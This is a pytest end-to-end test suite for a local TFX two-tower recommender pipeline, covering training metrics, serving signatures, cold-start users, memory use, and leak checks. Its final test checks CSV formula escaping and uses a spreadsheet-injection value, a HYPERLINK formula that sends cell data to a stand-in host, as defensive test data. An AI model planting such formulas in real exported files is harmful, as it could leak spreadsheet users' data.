"""The whole local pipeline, for real: ExampleGen to Pusher on a synthetic dataset.

One run (module-scoped, ~1-2 minutes on 2 cores) is shared by the assertions.
"""
import csv
import json
import os
import re
import subprocess
import sys

import numpy as np
import pytest

from conftest import ROOT
from e2e_helpers import (ODD_CUSTOMERS, ODD_PRODUCTS, catalog_ids, query_inputs, read_recs,
                         recommend_cli)
from pipelines.build import codegen
from pipelines.build.builder import COMPONENTS, paths
from pipelines.runners.local import completed_components, results
from transform.naming import QUERY_ID

pytestmark = pytest.mark.e2e


@pytest.fixture
def run(e2e_run):
    return e2e_run  # one run for the session (conftest.py)


def trained_products(run):
    """Distinct products of the prepared training split: the candidate-id vocabulary."""
    import pyarrow.parquet as pq

    path = os.path.join(paths(run["root"])["input"], "train")
    return set(pq.read_table(path).column("product_id").to_pylist())


def test_every_component_completed(run):
    done = completed_components(paths(run["root"])["metadata"], "e2e-test")
    assert done == sorted(COMPONENTS)


def test_cli_prints_progress_metrics_and_the_serving_model_on_one_screen(run):
    out = run["stdout"]
    lines = out.splitlines()
    # one line per epoch of the selection (with held-out recall) and of the refit
    assert len(lines) <= 40 and not run["stderr"].strip(), out + run["stderr"]
    for n, name in enumerate(["Transform", "Trainer", "PopularityGate", "RefitTransform",
                              "RefitTrainer", "Pusher"], start=4):
        assert any(line.startswith(f"[{n}/9] {name}") and "done in" in line
                   for line in lines), name
    # the refit (no held-out split to watch) shows its last epoch; the others are in the log
    assert sum(line.strip().startswith("epoch ") for line in lines) == 6 + 1
    assert "epoch 6/6: loss" in out and "(epochs 1-5: in the log)" in out
    assert "epoch 6/6: loss " in out and "(popularity " in out
    assert re.search(r"held-out eval split \(\d{4}-\d\d-\d\d to \d{4}-\d\d-\d\d\): ", out)
    assert "recall_at_10" in out
    # every baseline beside the model, the strongest named with the ratio, buy-again, coverage
    table = next(line for line in lines if line.strip().startswith("metric"))
    assert table.split() == ["metric", "model", "popularity", "recent", "pop.", "EASE"]
    assert re.search(r"model vs baselines: recall@10: \d+\.\d\dx (popularity|recent "
                     r"popularity|EASE), the strongest baseline \(EASE over the \d+ most-bought of 150",
                     out), out
    assert re.search(r"buy again \(\d+ queries.*own counts \d\.\d{4}", out)
    assert re.search(r"coverage: the top-10 lists use \d+ of 150 candidates", out)
    assert "training: 6 epochs run" in out or "training: all 6 epochs run" in out
    assert "push gate: blessed: recall@10 on the eval split is" in out
    serving = results(run["root"])["serving_model"]
    assert f"serving model: {serving}" in out
    assert os.path.exists(os.path.join(serving, "saved_model.pb"))
    # the libraries' chatter is in the log, whose path is printed
    log = os.path.join(run["root"], "logs", "run.log")
    assert f"full log: {os.path.realpath(log)}" in out
    with open(log, encoding="utf-8") as handle:
        text = handle.read()
    assert "Component Transform is running." in text and "epoch 6/6: loss" in text
    # the refit's epochs, kept off the screen, are in the log (they have no held-out recall)
    assert re.search(r"epoch 3/6: loss \d\.\d{4}, grad norm query", text)
    assert "running bdist_wheel" in text or "setup.py" in text  # the module wheels' build


def test_no_file_the_run_wrote_holds_a_secret_from_its_environment(run):
    from e2e_helpers import PLANTED

    files = 0
    for folder, _, names in os.walk(run["root"]):
        for name in names:
            with open(os.path.join(folder, name), "rb") as handle:
                data = handle.read()
            files += 1
            for secret in PLANTED.values():
                assert secret.encode() not in data, os.path.join(folder, name)
    assert files > 50  # modules, splits, artifacts, the model, the log


def test_runs_lists_the_run_with_its_result(run):
    from pipelines.inspect import runs

    found = runs.read(os.path.join(run["root"], "logs"))
    assert len(found) == 1 and found[0]["status"] == "pushed"
    assert found[0]["config_fingerprint"] == run["config"].fingerprint()
    assert found[0]["serving_version"] == os.path.basename(results(run["root"])["serving_model"])
    assert found[0]["model"] > found[0]["popularity"]
    done = subprocess.run([sys.executable, "-m", "pipelines", "runs", run["root"]],
                          capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0 and "pushed" in done.stdout and "recall@10 (eval)" in done.stdout


def test_the_modules_that_ran_are_the_generated_ones(run):
    modules = paths(run["root"])["modules"]
    with open(os.path.join(modules, "trainer", "trainer_module.py"), encoding="utf-8") as handle:
        assert handle.read() == codegen.trainer_module(run["config"])
    with open(os.path.join(modules, "transform", "transform_module.py"),
              encoding="utf-8") as handle:
        assert handle.read() == codegen.transform_module(run["config"])


def test_training_metrics_record_the_run(run):
    metrics = results(run["root"])["metrics"]
    assert metrics["status"] == "completed" and metrics["collapse_detected"] is False
    assert metrics["config_fingerprint"] == run["config"].fingerprint()
    assert len(metrics["epochs"]) == 6
    first, last = metrics["epochs"][0], metrics["epochs"][-1]
    assert last["loss"] < first["loss"]
    for epoch in metrics["epochs"]:
        assert epoch["grad_norm"]["query"]["min"] > 0 and epoch["grad_norm"]["candidate"]["min"] > 0
        assert set(epoch["eval"]) >= {f"factorized_top_k/top_{k}_categorical_accuracy"
                                      for k in (10, 50, 100)}
    for epoch in metrics["epochs"]:
        assert 0.0 <= epoch["clip_rate"] <= 1.0 and epoch["grad_norm"]["global"]["max"] > 0
    # the last epoch's held-out metric is the final evaluation: same weights, same queries
    assert metrics["epochs"][-1]["eval"]["full_catalog/recall_at_10"] == pytest.approx(
        metrics["evaluation"]["model"]["recall_at_10"], rel=1e-6)
    # every baseline on the same queries, fitted on train only; popularity is the same figure
    evaluation = metrics["evaluation"]
    assert set(evaluation["baselines"]) == {"popularity", "recent_popularity", "ease"}
    assert evaluation["baselines"]["popularity"] == evaluation["popularity"]
    assert evaluation["best_baseline"] in evaluation["baselines"]
    assert evaluation["baselines_about"]["ease_items"] <= 150
    assert evaluation["coverage"]["catalog"] == 150 and evaluation["coverage"]["k"] == 10
    assert evaluation["period"]["first"] <= evaluation["period"]["last"]
    assert set(evaluation["buy_again"]) >= {"model", "frequency", "recency", "popularity"}
    # the catalog is the whole product table, each product once, trained or not
    assert metrics["candidates"] == len(catalog_ids(run)) == 150
    assert metrics["candidates_without_training_rows"] == 150 - len(trained_products(run)) > 0


def test_model_beats_popularity_on_the_full_catalog(run):
    evaluation = results(run["root"])["metrics"]["evaluation"]
    assert evaluation["queries"] > 100
    # Measured on this data: recall@10 0.51 vs 0.28, ndcg@10 0.29 vs 0.16 (k=50 covers a
    # third of the 136-product catalog, so ratios there are compressed: 0.86 vs 0.75).
    for name, ratio in (("recall_at_10", 1.3), ("ndcg_at_10", 1.3), ("recall_at_50", 1.05)):
        assert evaluation["model"][name] > ratio * evaluation["popularity"][name], name


SERVE = """
import json, sys
import tensorflow as tf
model = tf.saved_model.load(sys.argv[1])
inputs = {k: tf.constant(v) for k, v in json.loads(sys.argv[2]).items()}
out = model.signatures["serving_default"](**inputs)
emb = model.signatures["query_embedding"](**inputs)["embedding"].numpy()
brute = emb @ model.candidate_embeddings.numpy().T
skip = out["candidate_ids"].numpy()[:, :3]  # exclude each query's top 3, plus an unknown id
exclude = tf.constant([[i for i in row] + [b"not-a-product"] for row in skip])
kept = model.signatures["recommend"](**inputs, exclude=exclude, k=tf.constant(10))
def text(ids):  # raw ids are UTF-8 bytes: numpy's astype(str) would read them as ASCII
    return [[v.decode() for v in row] for row in ids.numpy()]
print(json.dumps({"ids": text(out["candidate_ids"]),
                  "kept": text(kept["candidate_ids"]),
                  "kept_scores": kept["scores"].numpy().tolist(),
                  "scores": out["scores"].numpy().tolist(), "brute": brute.tolist(),
                  "catalog": [v.decode() for v in model.candidate_ids.numpy()]}))
"""


def test_serving_model_answers_a_known_query_in_a_fresh_process(run):
    serving = results(run["root"])["serving_model"]
    with open(os.path.join(serving, "assets.extra", "serving_inputs.json"), encoding="utf-8") as f:
        described = json.load(f)
    assert described == [
        {"input": "query_id", "column": "customer_id", "dtype": "string", "default": None},
        {"input": "segment", "column": "segment", "dtype": "string", "default": None},
        {"input": "region", "column": "region", "dtype": "string", "default": None}]
    with open(os.path.join(run["data"], "purchases.csv"), encoding="utf-8") as handle:
        first = {}
        for row in csv.DictReader(handle):
            first.setdefault(row["customer_id"], row)
    queries = [first[c] for c in sorted(first)[:2]]
    inputs = {d["input"]: [q[d["column"]] for q in queries] for d in described}
    env = dict(os.environ, TF_USE_LEGACY_KERAS="1", TF_CPP_MIN_LOG_LEVEL="3")
    done = subprocess.run([sys.executable, "-c", SERVE, serving, json.dumps(inputs)],
                          capture_output=True, text=True, env=env)
    assert done.returncode == 0, done.stderr[-3000:]
    answer = json.loads(done.stdout.strip().splitlines()[-1])
    products = catalog_ids(run)
    assert sorted(answer["catalog"]) == sorted(products)  # raw ids, each once
    for row, (ids, scores) in enumerate(zip(answer["ids"], answer["scores"])):
        assert len(ids) == 10 and len(set(ids)) == 10 and set(ids) <= products
        assert scores == sorted(scores, reverse=True)
        brute = np.asarray(answer["brute"][row])
        best = np.argsort(-brute)[:10]
        assert ids == [answer["catalog"][i] for i in best]
        np.testing.assert_allclose(scores, brute[best], rtol=1e-5, atol=1e-6)
        # the recommend signature drops the excluded ids and moves the rest up
        after = [answer["catalog"][i] for i in np.argsort(-brute)[3:13]]
        assert answer["kept"][row] == after
        np.testing.assert_allclose(answer["kept_scores"][row], np.sort(brute)[::-1][3:13],
                                   rtol=1e-5, atol=1e-6)


def test_batch_recommend_excludes_each_users_purchases(run, tmp_path):
    with open(os.path.join(run["data"], "purchases.csv"), encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    bought = {}
    for row in rows:
        bought.setdefault(row["customer_id"], set()).add(row["product_id"])
    chosen = ([c for c in sorted(bought) if c.startswith("C")][:5] + list(ODD_CUSTOMERS.values())
              + ["new-customer"])
    recs = recommend_cli(run, tmp_path, chosen, 20)
    products = catalog_ids(run)
    by_user = {}
    for r in recs:
        by_user.setdefault(r["user_id"], []).append(r)
    assert list(by_user) == chosen  # input order, the cold user included
    with open(os.path.join(run["data"], "products.csv"), encoding="utf-8") as handle:
        table = {row["product_id"]: row for row in csv.DictReader(handle)}
    extra = [c for c in next(iter(table.values())) if c != "product_id"]
    assert list(recs[0]) == ["user_id", "item_id", "rank", "score", "cold"] + extra
    for user, got in by_user.items():
        assert [int(r["rank"]) for r in got] == list(range(1, 21))
        assert {r["cold"] for r in got} == {"1" if user == "new-customer" else "0"}
        scores = [float(r["score"]) for r in got]
        assert scores == sorted(scores, reverse=True)
        for r in got:  # the candidate table's own values, exactly as written
            assert [r[c] for c in extra] == [table[r["item_id"]][c] for c in extra]
        items = [r["item_id"] for r in got]
        assert len(set(items)) == 20 and set(items) <= products
        assert not set(items) & bought.get(user, set())  # train and eval purchases excluded


def test_odd_ids_round_trip_through_training_serving_and_recommend(run, tmp_path):
    """'007' stays '007', '1.5' stays '1.5', ' A1 ' keeps its spaces (issue 9, item 3)."""
    import tensorflow_transform as tft

    from transform.naming import CANDIDATE_VOCAB, QUERY_VOCAB

    transform = os.path.join(run["root"], "tfx", "Transform", "transform_graph")
    output = tft.TFTransformOutput(os.path.join(transform, max(os.listdir(transform), key=int)))
    vocabulary = {v.decode() for v in output.vocabulary_by_name(CANDIDATE_VOCAB)}
    trained = trained_products(run)
    odd = set(ODD_PRODUCTS.values())
    assert odd & trained and (odd & trained) <= vocabulary  # trained under their own ids
    assert not {"7", "1.500000", "A1"} & vocabulary
    assert set(ODD_CUSTOMERS.values()) <= {v.decode() for v in output.vocabulary_by_name(
        QUERY_VOCAB)}
    model = tf_load(results(run["root"])["serving_model"])
    assert odd <= {v.decode() for v in model.candidate_ids.numpy()}  # served exactly
    # recommend: each odd customer's own purchases (odd ids included) are matched and excluded
    with open(os.path.join(run["data"], "purchases.csv"), encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    buyers = sorted({r["customer_id"] for r in rows if r["product_id"] in odd})[:3]
    recs = recommend_cli(run, tmp_path, buyers, 30)
    for buyer in buyers:
        own = {r["product_id"] for r in rows if r["customer_id"] == buyer}
        got = [r["item_id"] for r in recs if r["user_id"] == buyer]
        assert len(got) == 30 and not set(got) & own
    served = {r["item_id"] for r in recs}
    assert served <= catalog_ids(run)


def test_cold_customers_are_served_from_their_other_features(run):
    """An unknown id goes to the trained OOV row; segment and region still steer the answer.

    Every eval customer is served as if new (id replaced by an unknown one, its segment and
    region kept, its earlier purchases excluded): measured recall@10 0.42 vs popularity's
    0.28 over 153 customers on this data (0.32 vs 0.19 on the demo's)."""
    import collections

    import pyarrow.parquet as pq
    import tensorflow as tf

    model = tf_load(results(run["root"])["serving_model"])
    inputs = os.path.join(run["root"], "input")
    train = pq.read_table(os.path.join(inputs, "train")).to_pylist()
    held = pq.read_table(os.path.join(inputs, "eval")).to_pylist()
    seen, counts, truth = collections.defaultdict(set), collections.Counter(), {}
    for row in train:
        seen[row["customer_id"]].add(row["product_id"])
        counts[row["product_id"]] += 1
    for row in held:
        truth.setdefault(row["customer_id"], set()).add(row["product_id"])
    queries = [r for r in pq.read_table(os.path.join(inputs, "eval_queries")).to_pylist()
               if truth[r["customer_id"]] - seen[r["customer_id"]]]
    width = max(len(seen[r["customer_id"]]) for r in queries)
    answer = model.signatures["recommend"](
        query_id=tf.constant(["never-seen-" + r["customer_id"] for r in queries]),
        segment=tf.constant([r["segment"] for r in queries]),
        region=tf.constant([r["region"] for r in queries]),
        exclude=tf.constant([sorted(seen[r["customer_id"]]) + [""] * (
            width - len(seen[r["customer_id"]])) for r in queries]), k=tf.constant(10))
    catalog = [v.decode() for v in model.candidate_ids.numpy()]
    ranked = sorted(catalog, key=lambda c: (-counts[c], catalog.index(c)))
    cold, popular = [], []
    for row, ids in zip(queries, answer["candidate_ids"].numpy()):
        new = truth[row["customer_id"]] - seen[row["customer_id"]]
        cold.append(len({v.decode() for v in ids} & new) / len(new))
        top = [c for c in ranked if c not in seen[row["customer_id"]]][:10]
        popular.append(len(set(top) & new) / len(new))
    assert len(queries) > 100
    assert np.mean(cold) > 1.2 * np.mean(popular), (np.mean(cold), np.mean(popular))
    by_segment = model.signatures["serving_default"](
        query_id=tf.constant(["never-seen"] * 3), segment=tf.constant(["enterprise", "smb", ""]),
        region=tf.constant(["north", "north", "north"]))
    lists = [tuple(ids) for ids in by_segment["candidate_ids"].numpy()]
    assert len(set(lists)) == 3  # the segment (or its default, for "") changes the answer
    assert np.isfinite(by_segment["scores"].numpy()).all()


def test_recommend_reports_queries_that_get_fewer_than_k(run, tmp_path):
    """With k = the catalog size, every customer with purchases gets fewer than k (their
    items are excluded): each is reported, not silently shortened."""
    from pipelines.recommend import recommend

    users = tmp_path / "users.csv"
    users.write_text("customer_id\nC00000\nC00007\nnew-customer\n")
    logged = []
    report = recommend(run["root"], str(users), 150, str(tmp_path / "recs.csv"), log=logged.append)
    assert report["short"] == 2 and report["cold"] == 1
    assert any("2 queries got fewer than 150 recommendations" in line for line in logged)
    with open(tmp_path / "recs.csv", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sum(r["user_id"] == "new-customer" for r in rows) == 150


def test_recommend_streams_many_users_in_bounded_memory(run, tmp_path):
    """Ten times the users, ten times the rows, not ten times the memory: the peak RSS of
    `recommend` for 40,000 users is within 32 MiB of 4,000 users' (rows are written batch by
    batch; holding 400,000 result rows would take over 50 MiB). BENCHMARKS.md: 10k vs 100k."""
    code = ("import resource, sys\nfrom pipelines.recommend import recommend\n"
            "recommend(sys.argv[1], sys.argv[2], 10, sys.argv[3], log=lambda line: None)\n"
            "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)")
    peaks = {}
    for n in (4_000, 40_000):
        users, out = tmp_path / f"users{n}.csv", tmp_path / f"recs{n}.csv"
        users.write_text("customer_id\n" + "".join(f"C{i:05d}\n" for i in range(n)))
        done = subprocess.run([sys.executable, "-c", code, run["root"], str(users), str(out)],
                              capture_output=True, text=True, cwd=ROOT)
        assert done.returncode == 0, done.stderr[-3000:]
        peaks[n] = int(done.stdout.split()[-1]) / 1024  # MiB (ru_maxrss is in KiB)
        with open(out, encoding="utf-8") as handle:
            assert sum(1 for _ in handle) == 1 + 10 * n
    assert peaks[40_000] - peaks[4_000] < 32, peaks


def test_buy_again_ranks_each_customers_own_items_by_the_model(run, tmp_path):
    from e2e_helpers import query_inputs
    from pipelines.recommend import recommend

    users = tmp_path / "users.csv"
    users.write_text("customer_id\nC00000\n0042\n")
    report = recommend(run["root"], str(users), 5, str(tmp_path / "recs.csv"),
                       buy_again_out=str(tmp_path / "again.csv"), log=lambda line: None)
    again = read_recs(tmp_path / "again.csv")
    assert report["buy_again_rows"] == len(again) > 5
    with open(os.path.join(run["data"], "purchases.csv"), encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    model = tf_load(results(run["root"])["serving_model"])
    catalog = [v.decode() for v in model.candidate_ids.numpy()]
    vectors = model.candidate_embeddings.numpy()
    with open(os.path.join(results(run["root"])["serving_model"], "assets.extra",
                           "serving_inputs.json"), encoding="utf-8") as handle:
        described = json.load(handle)
    import tensorflow as tf

    for user in ("C00000", "0042"):
        own = sorted({r["product_id"] for r in rows if r["customer_id"] == user})
        inputs = query_inputs(run, described, [user])
        query = model.signatures["query_embedding"](**{
            k: tf.constant(v, tf.as_dtype(d["dtype"])) for (k, v), d in zip(
                inputs.items(), described)})["embedding"].numpy()[0]
        scores = {item: float(vectors[catalog.index(item)] @ query) for item in own}
        expected = sorted(own, key=lambda item: -scores[item])[:5]
        assert [r["item_id"] for r in again if r["user_id"] == user] == expected


def tf_load(path):
    import tensorflow as tf

    return tf.saved_model.load(path)


def execute_notebook(name, env):
    """Runs a notebook top to bottom (nbclient); returns its code cells' text and image count."""
    import nbclient
    import nbformat

    notebook = nbformat.read(os.path.join(ROOT, "notebooks", name), as_version=4)
    saved = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        nbclient.NotebookClient(notebook, timeout=600, kernel_name="python3",
                                resources={"metadata": {"path": os.path.join(ROOT, "notebooks")}}
                                ).execute()  # a cell that raises fails the test here
    finally:
        for k, v in saved.items():
            os.environ.pop(k) if v is None else os.environ.__setitem__(k, v)
    outputs = [o for c in notebook.cells if c.cell_type == "code" for o in c.outputs]
    text = "\n".join(o.get("text", "") or json.dumps(o.get("data", {}).get("text/plain", ""))
                     for o in outputs)
    images = sum("image/png" in o.get("data", {}) for o in outputs)
    return text, images


def test_inspect_trainer_notebook_answers_the_four_questions(run):
    text, images = execute_notebook("inspect_trainer.ipynb", {"TWOTOWER_ROOT": run["root"]})
    assert "learned: recall_at_10" in text and "collapse: none detected" in text
    assert "trainer module:" in text and "embedding parameters" in text
    assert "held out:" in text and "nearest candidates of" in text
    assert images == 6  # recall, loss, gradient norms, embedding norms, clipping, learning rate


def tree_hashes(root):
    """{relative path: sha256 of the bytes, or the link's target, or 'dir'} of a tree."""
    import hashlib

    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = os.path.join(folder, name)
            rel = os.path.relpath(path, root)
            if os.path.islink(path):
                found[rel] = "link:" + os.readlink(path)
            elif os.path.isdir(path):
                found[rel] = "dir"
            else:
                with open(path, "rb") as handle:
                    found[rel] = hashlib.sha256(handle.read()).hexdigest()
    return found


def test_inspect_cli_writes_the_report_and_every_figure(run, tmp_path):
    out = tmp_path / "report"
    before = tree_hashes(run["root"])
    done = subprocess.run([sys.executable, "-m", "pipelines", "inspect", run["root"], "--out",
                           str(out)], capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0, done.stdout + done.stderr[-3000:]
    assert tree_hashes(run["root"]) == before  # --out: not a byte, link or folder added there
    assert any(p.name.startswith("inspect-") for p in out.iterdir())  # the log went to --out
    assert len(done.stdout.splitlines()) <= 8 and not done.stderr.strip(), done.stdout + done.stderr
    for name in ("loss", "recall", "gradient_norms", "clip_rate", "learning_rate",
                 "embedding_norms"):
        data = (out / f"{name}.png").read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 10_000, name
    html = (out / "report.html").read_text(encoding="utf-8")
    assert html.count("src='data:image/png;base64,") == 6  # inlined: no file beside it needed
    assert "http://" not in html and "https://" not in html and "<script" not in html
    for heading in ("What code ran", "Did it learn?", "Did a tower collapse?",
                    "Are the recommendations sensible?"):
        assert heading in html
    import html as escape

    from pipelines.inspect import data
    from pipelines.inspect.run import load

    table = data.candidate_table(load(run["root"]))  # the run's products.csv
    named = [c for c in table if escape.escape(data.describe(c, table)) in html]
    assert table and len(named) >= 10, "the report names products from the candidate table"
    assert "good: most hits" in html and "Its history before the eval split" in html


def test_inspection_rebuilds_the_towers_that_ran(run):
    """The restored towers give the run's own evaluation and its serving model's catalog."""
    from pipelines.inspect import data
    from pipelines.inspect.model import Towers
    from pipelines.inspect.run import load

    found = load(os.path.join(run["root"], "modules", "trainer", "trainer_module.py"))
    assert found["root"] == os.path.abspath(run["root"])
    assert found["spec"] == codegen.frozen_spec(run["config"])  # the options that apply
    towers = Towers(found)
    recorded = found["metrics"]["evaluation"]
    again = towers.evaluate()
    for name, value in recorded["model"].items():
        assert again["model"][name] == pytest.approx(value, abs=1e-6), name
    assert again["popularity"] == recorded["popularity"]
    # the towers are the selection's (what the eval split and the gate judged); the pushed
    # model is the refit's, fitted on train + eval (tests/test_trainer_run.py)
    serving = tf_load(found["selection_model"])
    np.testing.assert_allclose(towers.candidate_vectors(),
                               serving.candidate_embeddings.numpy(), atol=1e-5)
    # parameters by hand: an id table has one row per vocabulary entry plus one OOV row
    vocabs = data.vocabularies(found)
    params = towers.parameters()
    dim = run["config"].model.embedding_dim
    assert params["query_tower"]["features"]["customer"] == (vocabs["_query_id"]["size"] + 1) * dim
    widths = sum((f.embedding_dim or dim) if f.kind != "numeric" else 1
                 for f in run["config"].query_tower.features)
    hidden, out = run["config"].query_tower.layers[0], run["config"].model.output_dim
    assert params["query_tower"]["dense"] == widths * hidden + hidden + hidden * out + out


def test_inspection_decodes_examples_and_ranks_without_what_a_query_had(run):
    import pyarrow.parquet as pq

    from pipelines.inspect import data
    from pipelines.inspect.model import Towers
    from pipelines.inspect.run import load

    found = load(run["root"])
    train = pq.read_table(os.path.join(run["root"], "input", "train")).to_pylist()
    pairs = {(r["customer_id"], r["product_id"]) for r in train}
    for row in data.sample(found, "train", 20):  # odd ids (007, Ünïcödé) decode exactly
        assert (row["customer"], row["product"]) in pairs
        assert row["query_id"] == row["customer"] and row["candidate_id"] == row["product"]
    towers = Towers(found)
    query = next(q for q in sorted({r["customer_id"] for r in train})
                 if q in {v.decode() for v in towers.held_out_queries()[QUERY_ID]})
    top = towers.query_top_k(query, 10)
    had = {p for c, p in pairs if c == query}
    assert len(top["top"]) == 10 and not {r["candidate"] for r in top["top"]} & had
    assert [r["hit"] for r in top["top"]] == [r["candidate"] in top["held_out"] for r in top["top"]]
    scores = [r["score"] for r in top["top"]]
    assert scores == sorted(scores, reverse=True)
    near = towers.nearest(towers.candidate_ids[0], 5)
    assert towers.candidate_ids[0] not in [r["candidate"] for r in near]
    assert [r["cosine"] for r in near] == sorted((r["cosine"] for r in near), reverse=True)

def test_the_serving_model_answers_8_threads_exactly_as_one(run):
    """8 threads x 2,000 queries at once give the single-threaded answers, bit for bit."""
    import concurrent.futures

    import tensorflow as tf

    model = tf_load(results(run["root"])["serving_model"])
    with open(os.path.join(results(run["root"])["serving_model"], "assets.extra",
                           "serving_inputs.json"), encoding="utf-8") as handle:
        described = json.load(handle)
    with open(os.path.join(run["data"], "purchases.csv"), encoding="utf-8") as handle:
        customers = sorted({r["customer_id"] for r in csv.DictReader(handle)})
    customers += ["never-seen-1", "never-seen-2"]  # cold queries too
    inputs = query_inputs(run, described, customers)
    signature = model.signatures["serving_default"]
    dtypes = {d["input"]: tf.as_dtype(d["dtype"]) for d in described}
    batches = []
    for b in range(8):  # 8 batches of 250 = 2,000 queries, cycling through the customers
        rows = [(b * 250 + i) % len(customers) for i in range(250)]
        batches.append({k: tf.constant([v[r] for r in rows], dtypes[k])
                        for k, v in inputs.items()})

    def answer(batch):
        out = signature(**batch)
        return out["candidate_ids"].numpy(), out["scores"].numpy()

    alone = [answer(batch) for batch in batches]
    with concurrent.futures.ThreadPoolExecutor(max_workers=8) as pool:
        together = list(pool.map(lambda t: [answer(b) for b in batches], range(8)))
    for thread in together:
        for (ids, scores), (ids1, scores1) in zip(thread, alone):
            assert (ids == ids1).all() and np.array_equal(scores, scores1)


def test_the_models_config_holds_no_local_path(run):
    """A model travels: its assets.extra/config.json names the data by file name only."""
    path = os.path.join(results(run["root"])["serving_model"], "assets.extra", "config.json")
    with open(path, encoding="utf-8") as handle:
        text = handle.read()
    strings = []

    def walk(value):
        if isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)
        elif isinstance(value, str):
            strings.append(value)

    walk(json.loads(text))
    assert not [s for s in strings if os.path.isabs(s) or os.sep in s], strings
    assert run["root"] not in text and run["data"] not in text
    config = json.loads(text)
    assert config["data"]["path"] == "purchases.csv" and config["pipeline"]["root"] is None


def test_a_run_leaves_nothing_in_the_system_temp_folder(run):
    """TFX builds each module's wheel in a temporary folder it never removes (a dozen
    tmpXXXXXXXX/ folders per run, holding the modules and their absolute data paths): the
    run's temporary files live in <pipeline folder>/.tmp-<pid>/ and go when it ends."""
    assert run["system_tmp_after"] == [], run["system_tmp_after"]
    assert not [n for n in os.listdir(run["root"]) if n.startswith(".tmp-")]


def test_the_serving_model_holds_no_local_path(run):
    """Transform names each lookup table after its vocabulary file's absolute path; the
    exported model carries the asset's name and a digest instead (trainer/export.py)."""
    serving = results(run["root"])["serving_model"]
    top = os.path.dirname(os.path.dirname(run["root"]))  # the test's temporary folder
    for folder, _, files in os.walk(serving):
        for name in files:
            if folder.endswith("variables"):
                continue  # weights: numbers
            data = open(os.path.join(folder, name), "rb").read()
            assert top.encode() not in data and b"pytest-of-" not in data, (folder, name)
            assert b"tftransform_tmp" not in data and b".temp_path" not in data, (folder, name)
    pb = open(os.path.join(serving, "saved_model.pb"), "rb").read()
    assert b"asset:_candidate_id#" in pb and b"asset:_query_id#" in pb


def test_recommend_escapes_formula_ids_and_a_program_gets_them_back_exactly(run, tmp_path):
    """Ids a spreadsheet would run (=HYPERLINK(...), +SUM(1+1), @SUM(A1)) get a leading '
    (OWASP); '-5' (a number) is written as it is; '-A12' is escaped; unescaping gives every
    id exactly, and --no-escape-formulas writes them exactly."""
    from e2e_helpers import write_users
    from pipelines.csvsafe import PLAIN_NUMBER, TRIGGERS

    users = write_users(tmp_path / "users.csv", ["@SUM(A1)", "-A12", "0042"])
    catalog = catalog_ids(run)
    files = {}
    for flag in ("--escape-formulas", "--no-escape-formulas"):
        out = tmp_path / f"{flag}.csv"
        done = subprocess.run([sys.executable, "-m", "pipelines", "recommend", "--model",
                               run["root"], "--users", users, "--k", str(len(catalog)),
                               "--include-seen", "--out", str(out), flag],
                              capture_output=True, text=True, cwd=ROOT)
        assert done.returncode == 0, done.stderr[-3000:]
        with open(out, encoding="utf-8", newline="") as handle:
            files[flag] = list(csv.reader(handle))[1:]
    cells = [c for row in files["--escape-formulas"] for c in row[:2]]
    assert not [c for c in cells if c.startswith(TRIGGERS) and not PLAIN_NUMBER.match(c)]
    assert {"'=HYPERLINK(\"x.example/?\"&A1,\"win\")", "'+SUM(1+1)", "-5", "'@SUM(A1)",
            "'-A12"} <= set(cells)
    exact = read_recs(tmp_path / "--escape-formulas.csv")
    assert {r["item_id"] for r in exact} == catalog
    assert [r["user_id"] for r in exact][::len(catalog)] == ["@SUM(A1)", "-A12", "0042"]
    assert [[r["user_id"], r["item_id"], r["rank"]] for r in exact] == [
        row[:3] for row in files["--no-escape-formulas"]]  # the same rows, written exactly
